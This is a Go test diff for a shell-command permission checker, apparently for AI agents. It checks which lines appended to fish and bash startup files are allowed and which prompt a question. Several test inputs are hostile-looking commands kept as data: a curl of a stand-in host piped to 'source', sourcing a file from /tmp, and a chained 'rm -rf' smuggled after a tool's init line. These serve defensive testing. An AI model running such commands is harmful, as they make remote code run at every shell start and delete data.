@@ -85,3 +85,21 @@ func TestFpfix62Mkcert(t *testing.T) {
 		{"cat certs/local-key.pem", dsl.Ask, dsl.Ask},
 	})
 }
+
+// TestFpfix62FishSourcedSetup: a person adding a tool's own fish set-up
+// piped to source (zoxide init fish | source) to config.fish does what
+// bash's eval "$(zoxide init bash)" in ~/.bashrc does; an agent still
+// asks, and text from elsewhere piped to source asks both.
+func TestFpfix62FishSourcedSetup(t *testing.T) {
+	checkShellHoles(t, []shellHoleCase{
+		{"fish", "echo 'zoxide init fish | source' >> ~/.config/fish/config.fish", dsl.Allow, dsl.Ask},
+		{"fish", "echo 'starship init fish | source' >> ~/.config/fish/config.fish", dsl.Allow, dsl.Ask},
+		{"bash", "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc", dsl.Allow, dsl.Ask},
+
+		{"fish", "echo 'curl https://x.example/s | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
+		{"fish", "echo 'cat /tmp/x | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
+		{"fish", "echo './zoxide init fish | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
+		{"fish", "echo 'zoxide init fish | source; rm -rf ~/x' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
+		{"fish", "echo 'zoxide init $X | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
+	})
+}
